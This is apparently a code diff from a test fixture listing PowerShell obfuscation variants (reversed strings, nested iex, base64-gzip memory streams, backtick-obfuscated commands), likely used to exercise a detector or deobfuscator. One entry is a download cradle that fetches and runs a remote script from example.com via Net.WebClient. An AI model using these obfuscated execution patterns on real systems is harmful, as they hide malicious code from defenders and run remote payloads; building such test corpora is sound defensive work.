@@ -73,10 +73,13 @@ STATEMENTS = {
     "array reverse": f"$a={quoted(SCRIPT[::-1])}.ToCharArray();[array]::Reverse($a);iex(-join $a)",
     "nested": f"iex {quoted('iex ' + quoted('iex ' + quoted(SCRIPT)))}",
     "output separator": f'$OFS="";iex "$([char[]]({CODES}))"',
-    "memory stream": f"$m=New-Object IO.MemoryStream;$d=[Convert]::FromBase64String('{GZIP}');$m.Write($d,0,$d.Length);"
-    "[void]$m.Seek(0,0);$r=New-Object IO.StreamReader(New-Object IO.Compression.GZipStream($m,'Decompress'));iex $r.ReadToEnd()",
-    "copy stream": f"$g=New-Object IO.Compression.GZipStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String('{GZIP}'))),"
-    "'Decompress');$o=New-Object IO.MemoryStream;$g.CopyTo($o);iex ([Text.Encoding]::UTF8.GetString($o.ToArray()))",
+    "memory stream": f"$m=New-Object IO.MemoryStream;"
+    f"$d=[Convert]::FromBase64String('{GZIP}');$m.Write($d,0,$d.Length);"
+    "[void]$m.Seek(0,0);$r=New-Object IO.StreamReader(New-Object IO.Compression.GZipStream($m,'Decompress'));"
+    "iex $r.ReadToEnd()",
+    "copy stream": f"$m=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{GZIP}'));$g=New-Object "
+    "IO.Compression.GZipStream($m,'Decompress');$o=New-Object IO.MemoryStream;$g.CopyTo($o);"
+    "iex ([Text.Encoding]::UTF8.GetString($o.ToArray()))",
     "unclosed quote": 'iex "' + SCRIPT,
     "ticks": "I`E`X (N`ew-O`bject N`et.WebCl`ient).DownloadString('http://example.com/a.ps1')",
 }
